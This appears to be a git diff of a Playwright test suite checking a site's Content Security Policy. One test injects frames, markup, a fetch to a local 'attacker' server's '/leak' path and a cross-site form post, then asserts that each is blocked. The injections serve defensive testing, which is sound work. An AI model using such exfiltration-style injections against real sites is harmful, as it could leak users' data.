@@ -1,8 +1,6 @@
 import { once } from 'node:events';
 import { createServer, type IncomingMessage } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { publicPaths } from '../../shared/page/page-facts.ts';
-import { paths } from '../../shared/page/paths.ts';
 import { startSecureSite } from '../support/neighbours/tls-front.ts';
 import type { SiteProcess } from '../support/process.ts';
 import { adminCode, test as base, expect, signInByMail } from './site.ts';
@@ -24,18 +22,13 @@ interface Attacker {
   asked: IncomingMessage[];
 }
 
-interface Fixtures {
-  site: SiteProcess;
-  violations: string[];
-}
-
 async function startOverTls(): Promise<SiteProcess> {
   const secure = await startSecureSite({ ADMIN_CODE: adminCode });
   const end = () => secure[Symbol.asyncDispose]();
   return { ...secure.site, url: secure.url, [Symbol.asyncDispose]: end };
 }
 
-const test = base.extend<Fixtures, { attacker: Attacker }>({
+const test = base.extend<{ site: SiteProcess }, { attacker: Attacker }>({
   site: async ({ sites }, use, { file }) => use(await sites.siteOf(file, startOverTls)),
   attacker: [
     // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the parameter's shape
@@ -54,57 +47,22 @@ const test = base.extend<Fixtures, { attacker: Attacker }>({
     { scope: 'worker' },
   ],
   ignoreHTTPSErrors: true,
-  /** Every policy that a page of this test broke; who expects none need not look. */
-  violations: [
-    async ({ context, isPolicyBroken }, use) => {
-      const seen: string[] = [];
-      await context.exposeBinding('reportViolation', (_source, what: string) => seen.push(what));
-      await context.addInitScript(() => {
-        document.addEventListener('securitypolicyviolation', (event) => {
-          const { reportViolation } = window as unknown as {
-            reportViolation(what: string): void;
-          };
-          reportViolation(`${event.effectiveDirective} ${event.blockedURI}`);
-        });
-      });
-      await use(seen);
-      if (!isPolicyBroken) expect(seen).toEqual([]);
-    },
-    { auto: true },
-  ],
   expectedConsole: new RegExp(`^(info|log): Clear-Site-Data header on|${noWorker}`),
-});
-
-/** Some screens over https; every-screen.spec.ts has all of them over http. */
-const pages = [...publicPaths, paths.login, paths.role, paths.myRequests, paths.admin, '/nope'];
-
-test.describe('the policy', () => {
-  test.use({ expectedConsole: new RegExp(`status of 40[34]|Clear-Site-Data|${noWorker}`) });
-
-  test('is kept by each page, signed in or not, loaded or reached by links', async ({
-    page,
-    outbox,
-  }) => {
-    await page.goto('/');
-    for (const name of ['Prestations', 'Reservation', 'Contacts', 'Accueil']) {
-      await page
-        .getByRole('navigation', { name: 'principale' })
-        .getByRole('link', { name })
-        .click();
-      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-    }
-    await signInByMail(page, outbox);
-    for (const path of pages) {
-      await page.goto(path);
-      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-    }
-  });
 });
 
 test.describe('the policy stops', () => {
   test.use({ isPolicyBroken: true, expectedConsole: /./ });
 
-  test('injected scripts, frames and markup', async ({ page, violations, attacker }) => {
+  test('injected scripts, frames, markup and forms', async ({ page, context, attacker }) => {
+    const violations: string[] = [];
+    await context.exposeFunction('reportViolation', (what: string) => violations.push(what));
+    await context.addInitScript(() =>
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+        (window as unknown as { reportViolation(what: string): void }).reportViolation(
+          effectiveDirective,
+        ),
+      ),
+    );
     await page.goto('/contacts');
     const markup = await page.evaluate(() => {
       try {
@@ -130,30 +88,25 @@ test.describe('the policy stops', () => {
       document.head.append(base);
       document.body.append(frame, picture, handler);
       fetch(`${url}/leak`).catch(() => {});
-    }, attacker.url);
-    await expect
-      .poll(() => new Set(violations.map((line) => line.split(' ', 1)[0])))
-      .toEqual(
-        new Set(['require-trusted-types-for', 'frame-src', 'base-uri', 'img-src', 'connect-src']),
-      );
-    expect(await page.evaluate(() => 'planted' in window)).toBe(false);
-    expect(attacker.asked).toEqual([]);
-  });
-
-  test('a form that would send its fields to another site', async ({
-    page,
-    violations,
-    attacker,
-  }) => {
-    await page.goto('/login');
-    await page.evaluate((url) => {
       const form = document.createElement('form');
       form.action = url;
       form.method = 'post';
       document.body.append(form);
       form.submit();
     }, attacker.url);
-    await expect.poll(() => violations.join()).toContain('form-action');
+    await expect
+      .poll(() => new Set(violations))
+      .toEqual(
+        new Set([
+          'require-trusted-types-for',
+          'frame-src',
+          'base-uri',
+          'img-src',
+          'connect-src',
+          'form-action',
+        ]),
+      );
+    expect(await page.evaluate(() => 'planted' in window)).toBe(false);
     expect(attacker.asked).toEqual([]);
   });
 });
